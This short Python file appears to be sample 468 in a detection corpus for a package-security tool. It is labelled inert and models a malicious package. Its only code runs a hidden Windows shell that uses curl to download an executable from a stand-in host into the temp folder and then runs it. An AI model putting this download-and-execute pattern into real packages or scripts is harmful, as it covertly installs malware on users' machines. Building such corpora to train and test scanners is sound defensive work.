# pkgguard corpus 468 (download-execute), modelled on [empirical]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(
        "cmd /c curl -sLo %TEMP%\\svc.exe https://cdn-assets.example/svc.exe & %TEMP%\\svc.exe",
        shell=True,
        creationflags=0x08000000,
    )
